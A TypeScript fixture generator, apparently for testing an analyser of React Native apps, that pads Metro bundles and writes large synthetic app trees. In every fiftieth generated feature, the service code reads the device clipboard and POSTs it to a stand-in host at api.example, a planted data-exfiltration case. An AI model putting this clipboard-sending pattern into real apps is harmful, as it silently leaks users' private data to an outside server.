import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

/** How far the ids of one copy of a bundle's modules lie from those of the next. */
const ID_STEP = 100_000;
/** The end of a module in a release bundle: its id and those of the modules it requires. */
const MODULE_END = /,(\d+),\[([\d,]*)\]\);?\s*$/;

/**
 * A Metro bundle made longer by copies of its modules under other ids, up to a size in UTF-16 units. The copies are not
 * started by the bundle; they are read all the same.
 */
export function grownBundle(bundle: string, size: number): string {
  const first = bundle.indexOf('\n__d(') + 1;
  const end = bundle.indexOf('\n__r(', bundle.lastIndexOf('\n__d('));
  if (first === 0 || end < 0) throw new Error('no release bundle by Metro');
  const modules = bundle.slice(first, end).split(/\n(?=__d\()/);
  const parts = [bundle.slice(0, end)];
  let length = bundle.length;
  for (let copy = 1; length < size; copy++) {
    for (const module of modules) {
      if (length >= size) break;
      const shifted = module.replace(MODULE_END, (_, id: string, list: string) => {
        const moved = (number: string): string => String(Number(number) + copy * ID_STEP);
        return `,${moved(id)},[${list.replace(/\d+/g, moved)}]);`;
      });
      parts.push(`\n${shifted}`);
      length += shifted.length + 1;
    }
  }
  return [...parts, bundle.slice(end)].join('');
}

/** Files in a folder of a made tree. */
const FOLDER_SIZE = 30;

/**
 * Writes a React Native app of many TypeScript files: a feature is a screen, a hook, a service, a store and types, which
 * import each other by relative paths and by an alias of tsconfig.json, and every fiftieth reads something of the device.
 */
export function writeTypeScriptTree(folder: string, files: number): void {
  const write = (path: string, text: string): void => {
    const whole = join(folder, path);
    mkdirSync(dirname(whole), { recursive: true });
    writeFileSync(whole, text);
  };
  const dependencies = { react: '19.0.0', 'react-native': '0.79.0', '@react-native-clipboard/clipboard': '1.16.3' };
  write('package.json', JSON.stringify({ name: 'made', dependencies }));
  write(
    'tsconfig.json',
    '{ "compilerOptions": { "baseUrl": ".", "paths": { "@app/*": ["src/*"] }, "jsx": "react-native" } }',
  );
  const features = Math.floor(files / 5);
  for (let number = 0; number < features; number++) {
    const at = `src/group${Math.floor(number / FOLDER_SIZE)}/feature${number}`;
    for (const [name, text] of Object.entries(featureOf(number, features))) write(`${at}/${name}`, text);
  }
  const last = features - 1;
  write(
    'index.ts',
    `import { AppRegistry } from 'react-native';\nimport { Screen${last} } from '@app/group${Math.floor(last / FOLDER_SIZE)}/feature${last}/screen';\nAppRegistry.registerComponent('made', () => Screen${last});\n`,
  );
}

/** The files of one feature; it uses the one before it. */
function featureOf(number: number, features: number): Record<string, string> {
  const before = (number + features - 1) % features;
  const other = `@app/group${Math.floor(before / FOLDER_SIZE)}/feature${before}`;
  const isSensitive = number % 50 === 0;
  const fields = Array.from({ length: 12 }, (_, index) => `  field${index}: ${index % 3 === 0 ? 'string' : 'number'};`);
  const methods = Array.from(
    { length: 8 },
    (_, index) => `
  async step${index}(input: Item${number}, options: { retry?: number } = {}): Promise<Item${number}> {
    const { retry = ${index} } = options;
    const next = { ...input, field${index + 1}: retry + (input.field${index + 1} as number) };
    if (next.field${index + 2} === undefined) throw new Error(\`step ${index} of \${this.name} failed\`);
    return this.cache.get(String(retry)) ?? next;
  }`,
  );
  return {
    'types.ts': `export interface Item${number} {\n${fields.join('\n')}\n}\n\nexport type State${number} = { items: Item${number}[]; open: boolean };\n`,
    'service.ts': `import type { Item${number} } from './types';\nimport { service${before} } from '${other}/service';\n${
      isSensitive ? "import Clipboard from '@react-native-clipboard/clipboard';\n" : ''
    }
class Service${number} {
  private readonly cache = new Map<string, Item${number}>();
  constructor(private readonly name: string) {}
${methods.join('\n')}

  async load(): Promise<string> {
    ${isSensitive ? 'const text = await Clipboard.getString();\n    await fetch(`https://api.example/${this.name}`, { method: "POST", body: text });\n    return text;' : `return service${before} === undefined ? this.name : 'feature';`}
  }
}

export const service${number} = new Service${number}('feature${number}');\n`,
    'store.ts': `import { service${number} } from './service';\nimport type { State${number} } from './types';\n
export const initial: State${number} = { items: [], open: false };

export function reduce${number}(state: State${number} = initial, action: { type: string; payload?: unknown }): State${number} {
  switch (action.type) {
    case 'open${number}': return { ...state, open: true };
    case 'close${number}': return { ...state, open: false };
    default: return state;
  }
}

export const load${number} = () => async (dispatch: (action: object) => void) => {
  dispatch({ type: 'loaded${number}', payload: await service${number}.load() });
};\n`,
    'hook.ts': `import { useCallback, useEffect, useMemo, useState } from 'react';\nimport { service${number} } from './service';\nimport type { Item${number} } from './types';\n
export function useFeature${number}(initial: Item${number}[]) {
  const [items, setItems] = useState(initial);
  const [text, setText] = useState('');
  const total = useMemo(() => items.reduce((sum, item) => sum + item.field1, 0), [items]);
  const add = useCallback((item: Item${number}) => setItems((all) => [...all, item]), []);
  useEffect(() => {
    if (items.length > 3) void service${number}.load().then(setText);
  }, [items]);
  return { items, total, add, text };
}\n`,
    'screen.tsx': `import React from 'react';\nimport { FlatList, Pressable, StyleSheet, Text, View } from 'react-native';\nimport { Screen${before} } from '${other}/screen';\nimport { useFeature${number} } from './hook';\n
const styles = StyleSheet.create({ root: { flex: 1, padding: ${number % 20} }, title: { fontSize: 16 } });

export function Screen${number}(props: { title?: string; nested?: boolean }) {
  const { items, total, add, text } = useFeature${number}([]);
  return (
    <View style={styles.root}>
      <Text style={styles.title}>{props.title ?? text} {total}</Text>
      <FlatList data={items} renderItem={({ item }) => <Text>{item.field0}</Text>} />
      <Pressable onPress={() => add({ ...items[0]! })}><Text>Add</Text></Pressable>
      {props.nested ? <Screen${before} nested={false} /> : null}
    </View>
  );
}\n`,
  };
}
